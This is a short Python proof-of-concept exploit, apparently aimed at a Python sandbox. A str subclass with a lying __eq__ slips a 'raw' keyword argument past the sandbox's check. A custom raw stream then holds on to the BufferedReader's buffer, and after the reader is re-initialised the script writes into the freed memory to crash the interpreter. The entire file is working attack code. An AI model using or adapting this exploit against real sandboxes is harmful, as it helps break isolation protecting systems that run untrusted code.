# technique: a raw stream of ours as a keyword argument whose name is equal to 'raw' when CPython asks and not when the sandbox does
# goal: crash
# source: own analysis: check and use are two look-ups in a dict
import io


class Key(str):
    __hash__ = str.__hash__

    def __eq__(self, other):
        global asked
        asked += 1
        return asked > limit and str.__eq__(self, other)


class Raw(io.RawIOBase):
    def readable(self):
        return True

    def readinto(self, view):
        kept.append(view)
        return 0


kept = []
for limit in range(4):
    asked = 0
    try:
        reader = io.BufferedReader(**{Key('raw'): Raw(), 'buffer_size': 1 << 25})
        reader.read(1)
        break
    except Exception:
        pass
reader.__init__(io.BytesIO(), 16)
kept[0][0] = 65
